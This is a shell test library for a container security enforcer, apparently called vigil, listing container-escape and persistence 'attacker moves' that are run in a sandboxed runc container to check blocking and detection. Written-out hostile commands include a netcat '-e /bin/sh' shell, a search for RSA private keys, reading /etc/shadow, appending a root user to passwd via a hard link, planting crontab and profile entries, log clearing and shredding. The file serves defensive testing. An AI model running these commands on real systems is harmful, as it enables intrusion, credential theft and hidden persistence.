# The attacker moves of the default rules' attack suite, shared by attacks_test (which
# checks what each does under enforce mode) and attack_replay_test (which records them in
# monitor mode and compares the replay with enforce mode). Needs lib.sh.

# attack NAME SCRIPT [CONTAINER-ID]: runs SCRIPT in a runc container made for attacks (a
# shadow file, the busybox tools the moves use, an executable /dev/shm), prints its output.
attack() {  # NAME SCRIPT [CONTAINER-ID] -> container output
  local b
  b=$(it_bundle "bundle-${3:-$1}" sh -c "$2")
  echo 'root:$6$x:19000:0:99999:7:::' >"$b/rootfs/etc/shadow"
  for a in mount ln cp cat mv nc grep shred dd rm wc; do ln -sf busybox "$b/rootfs/bin/$a"; done
  # glibc's dynamic loader and a dynamic program of the image (the loader moves).
  mkdir -p "$b/rootfs/lib64" "$b/rootfs/lib/x86_64-linux-gnu"
  cp -L /lib64/ld-linux-x86-64.so.2 "$b/rootfs/lib64/"
  cp -L /lib/x86_64-linux-gnu/libc.so.6 "$b/rootfs/lib/x86_64-linux-gnu/"
  cp /usr/bin/true "$b/rootfs/usr/bin/dyn-true"
  # A "server" of the image (a copy of the probe, in place before the start): what it
  # execs has nginx as its parent.
  mkdir -p "$b/rootfs/usr/sbin" "$b/rootfs/var/log"
  cp "$PROBE" "$b/rootfs/usr/sbin/nginx"
  python3 - "$b/config.json" <<'PY'
import json, sys
c = json.load(open(sys.argv[1]))
for m in c["mounts"]:  # runc's /dev/shm is noexec; let vigil be the one that says no
    if m["destination"] == "/dev/shm":
        m["options"] = [o for o in m["options"] if o != "noexec"]
json.dump(c, open(sys.argv[1], "w"), indent=1)
PY
  it_inject "$b"
  it_run runc "${3:-vigil-a-$$-$1}" "$b"
}

# Each move by name, in the order the suite runs them.
attack_move_names=(module mount mountapi iouring ns bpf ptrace packet shm shadow write plant drop memfd
  logclear revshell netcat keysearch destroy webshell memfdpath hardlink loader)
declare -A attack_moves
attack_moves[module]='/usr/bin/probe init-module; /usr/bin/probe finit-module'
attack_moves[mount]='mount -t tmpfs none /mnt; echo mount-rc=$?'
attack_moves[mountapi]='/usr/bin/probe mount-setattr /proc/sys/kernel/core_pattern; /usr/bin/probe pivot-root; /usr/bin/probe fspick'
attack_moves[iouring]='/usr/bin/probe io-uring-setup'
attack_moves[ns]='/usr/bin/probe unshare-user; /usr/bin/probe unshare-mount; /usr/bin/probe setns;
/usr/bin/probe clone-newns; /usr/bin/probe clone3; sh -c "echo forked"'
attack_moves[bpf]='/usr/bin/probe bpf'
attack_moves[ptrace]='sleep 5 & /usr/bin/probe ptrace-attach $!; /usr/bin/probe vm-write $!; /usr/bin/probe mem-write $!; kill $!'
attack_moves[packet]='/usr/bin/probe packet-socket'
attack_moves[shm]='cp /usr/bin/probe /dev/shm/p && /dev/shm/p dropped; echo shm-rc=$?'
attack_moves[shadow]='cat /etc/shadow >/dev/null; echo read-rc=$?; ln -s /etc/shadow /tmp/s; echo ln-rc=$?'
attack_moves[write]='/usr/bin/probe open-write /etc/ld.so.conf; /usr/bin/probe open-write /usr/bin/evil;
/usr/bin/probe open-write /bin/evil; /usr/bin/probe open-write /etc/passwd; /usr/bin/probe open-read /etc/passwd;
mkdir -p /var/lib/app; /usr/bin/probe open-write /var/lib/app/state; grep -c root:x /etc/passwd'
attack_moves[plant]='echo "PATH=/tmp:\$PATH" >/tmp/profile; cat /tmp/profile /tmp/profile >/dev/null; sleep 0.2;
mv /tmp/profile /etc/profile; echo mv-rc=$?;
cat /etc/profile; echo profile-rc=$?; echo "* * * * * root /tmp/x" >/tmp/job; ln /tmp/job /etc/crontab;
echo ln-rc=$?; cat /etc/crontab; echo crontab-rc=$?; ln -s /tmp/job /etc/job-link; echo symlink-rc=$?;
cd /etc && ln -s ../tmp/job rel-link; cd /; ln -s /tmp/job /etc/./alias-link;
cat /etc/passwd >/dev/null; echo passwd-rc=$?'
attack_moves[drop]='cp /usr/bin/probe /tmp/tool; /tmp/tool dropped; echo drop-rc=$?; /usr/bin/probe image; echo image-rc=$?'
# Detected, not blocked: execs are real (probe run), as busybox sh runs applets without one.
attack_moves[logclear]='echo old >/var/log/auth.log; : >/var/log/auth.log; echo cleared'
attack_moves[revshell]='/usr/bin/probe redirect'
attack_moves[netcat]='/usr/bin/probe run /bin/nc -e /bin/sh 127.0.0.1 9; echo nc-done'
attack_moves[keysearch]='/usr/bin/probe run /bin/grep -r "BEGIN RSA PRIVATE KEY" /etc; echo searched'
attack_moves[destroy]='echo secret >/tmp/db; /usr/bin/probe run /bin/shred -u /tmp/db; ls /tmp/db 2>&1'
attack_moves[webshell]='/usr/sbin/nginx run /bin/sh -c "echo webshell-ran"'
attack_moves[memfd]='/usr/bin/probe memfd-exec'
attack_moves[memfdpath]='/usr/bin/probe memfd-exec-path; /usr/bin/probe mkfifo /etc/evil-fifo'
# A system file written through another name: a hard link made from /etc into /tmp.
# truncate(2) empties a file by path without opening it (a limit: alerted).
attack_moves[hardlink]='ln /etc/passwd /tmp/p; echo ln-rc=$?; echo "evil::0:0::/:/bin/sh" >>/tmp/p;
echo append-rc=$?; /usr/bin/probe truncate /etc/group'
# The loader run as a program runs what it is given without an exec of it (a limit: alerted).
attack_moves[loader]='/lib64/ld-linux-x86-64.so.2 /usr/bin/dyn-true && echo loader-ran-image;
cp /usr/bin/dyn-true /tmp/tool; /tmp/tool; echo dropped-rc=$?;
/lib64/ld-linux-x86-64.so.2 /tmp/tool && echo loader-ran-dropped;
LD_PRELOAD=/tmp/lib.so /usr/bin/dyn-true 2>/dev/null && echo preloaded'
